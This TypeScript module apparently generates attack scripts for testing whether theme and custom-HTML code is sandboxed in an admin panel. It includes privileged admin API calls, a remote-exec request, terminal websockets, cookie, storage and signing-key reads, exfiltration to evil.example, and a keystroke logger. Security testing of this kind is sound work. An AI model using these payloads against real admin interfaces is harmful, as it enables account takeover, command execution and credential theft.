/**
 * Source text of attacks that third-party code could try in an administrator's browser: the same for a theme and for custom HTML.
 * Each attempt returns what it obtained, and throws if it obtained nothing.
 */
export const theft = (attacker: string, { node, hidden }: { readonly node: string; readonly hidden: string }) => `
(() => {
  const api = '/api/v1/admin';
  const token = () => JSON.parse(document.querySelector('meta[name="page"]').content).sandbox.token;
  const readText = async answer => {
    const text = await answer.text();
    if (!answer.ok) throw new Error('answered ' + answer.status);
    return answer.status + ' ' + text.slice(0, 200);
  };
  const send = (method, path, body, more = {}) =>
    fetch(path, { method, credentials: 'include', body: body && JSON.stringify(body), ...more, headers: {
      ...(body && { 'content-type': 'application/json' }), ...more.headers,
    } }).then(readText);
  const actions = {
    key: ['POST', api + '/api-keys', { name: 'theirs', scopes: ['full'], expiresAt: null, nodes: null }],
    exec: ['POST', api + '/exec/tasks', { command: 'id', nodes: ['${node}'] }],
    backup: ['POST', api + '/backup', { passphrase: 'their own passphrase 1' }],
    settings: ['PUT', api + '/settings/custom', { head: '', body: '<b>theirs</b>', origins: ['https://evil.example'] }],
    share: ['POST', api + '/share-links', { name: 'theirs', node: '${hidden}', hours: 1 }],
    sessions: ['DELETE', api + '/sessions?own=true'],
    theme: ['PUT', api + '/themes/active', { id: 'default' }],
    nodes: ['GET', api + '/nodes'],
    hidden: ['GET', '/api/v1/nodes/${hidden}'],
    log: ['GET', api + '/audit/export?format=json'],
  };
  const openWindow = path => new Promise((resolve, reject) => {
    const other = window.open(path);
    if (!other) return reject(new Error('no window'));
    let rounds = 0;
    const timer = setInterval(() => {
      try {
        const { body, location: { pathname } } = other.document;
        // The initial empty document of every new window belongs to the opener.
        if (pathname === 'blank') throw new Error('still empty');
        clearInterval(timer);
        resolve(body.innerHTML.length + ' characters of ' + pathname);
      } catch (error) {
        if (++rounds < 20) return;
        clearInterval(timer);
        other.close();
        reject(error);
      }
    }, 100);
  });
  const withTimeout = promise => Promise.race([promise, new Promise((_, no) => setTimeout(no, 3000, new Error('no answer')))]);
  const loadFrame = path => withTimeout(new Promise((resolve, reject) => {
    const frame = document.createElement('iframe');
    frame.onload = () => {
      try {
        resolve(frame.contentDocument.body.innerHTML || reject(new Error('empty')));
      } catch (error) {
        reject(error);
      }
    };
    frame.src = path;
    document.body.append(frame);
  }));
  const socket = (path, protocols) => withTimeout(new Promise((resolve, reject) => {
    const socket = new WebSocket(location.origin.replace('http', 'ws') + path, protocols);
    socket.onopen = () => resolve('open');
    socket.onerror = () => reject(new Error('refused'));
  }));
  const attempts = {
    ...Object.fromEntries(Object.entries(actions).map(([name, request]) => [name, () => send(...request)])),
    ...Object.fromEntries(Object.entries(actions).map(([name, [method, path, body]]) => [
      name + ' with the token of the page',
      () => send(method, path, body, { credentials: 'omit', headers: { authorization: 'Bearer ' + token() } }),
    ])),
    ...Object.fromEntries(Object.entries(actions).filter(([, [method]]) => method === 'POST').map(([name, [, path, body]]) => [
      name + ' without asking before',
      // The response is unreadable; the test checks its effect afterwards.
      () => fetch(path, { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify(body) })
        .then(({ type }) => { throw new Error(type); }),
    ])),
    'the list with the cookie': async () => {
      const text = await fetch('/api/v1/nodes', { credentials: 'include' }).then(readText);
      return text;
    },
    'the hidden node by its name': async () => {
      const text = await fetch('/api/v1/nodes', { headers: { authorization: 'Bearer ' + token() } }).then(answer => answer.text());
      if (!text.includes('hidden-name')) throw new Error('not in it');
      return text;
    },
    'a window on /admin': () => openWindow('/admin'),
    'a window on /login': () => openWindow('/login'),
    'a window on /Admin': () => openWindow('/Admin'),
    'a frame on /admin': () => loadFrame('/admin'),
    'a frame on /login': () => loadFrame('/login'),
    'the page of /admin': () => fetch('/admin', { credentials: 'include' }).then(readText),
    'a terminal': () => socket('/api/v1/admin/terminal/socket?node=${node}', []),
    'a terminal with the token of the page': () => socket('/api/v1/admin/terminal/socket?node=${node}', ['vitrine-viewer', token()]),
    'the live socket with the cookie': () => socket('/api/v1/live', []),
    cookies: async () => document.cookie || 'an empty one',
    storage: async () => localStorage.length + ' entries',
    'storage of the tab': async () => sessionStorage.length + ' entries',
    'the signing key': () => withTimeout(new Promise((resolve, reject) => {
      const opening = indexedDB.open('vitrine-control', 1);
      opening.onsuccess = () => resolve([...opening.result.objectStoreNames].join());
      opening.onerror = () => reject(opening.error);
    })),
    'a service worker': () => navigator.serviceWorker.register('/sw.js').then(({ scope }) => scope),
    'a channel to other pages': async () => {
      const channel = new BroadcastChannel('vitrine-test');
      return withTimeout(new Promise(resolve => { channel.onmessage = ({ data }) => resolve(data); channel.postMessage('hello'); }));
    },
    'another host': () => fetch('https://evil.example/?stolen', { mode: 'no-cors' }).then(({ type }) => type),
    'another host by a picture': () => withTimeout(new Promise((resolve, reject) => {
      Object.assign(new Image(), { onload: resolve, onerror: () => reject(new Error('blocked')), src: 'https://evil.example/x.png' });
    })),
  };
  globalThis['${attacker}'] = async () => {
    const obtained = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        obtained[name] = String(await attempt());
      } catch {
        // Nothing.
      }
    }
    return obtained;
  };
})();
`;

/** Captures keystrokes wherever this code still runs, and signals that it runs. */
export const listener = (attacker: string) => `
globalThis['${attacker}Typed'] = [];
addEventListener('input', event => globalThis['${attacker}Typed'].push(event.target.value), true);
`;
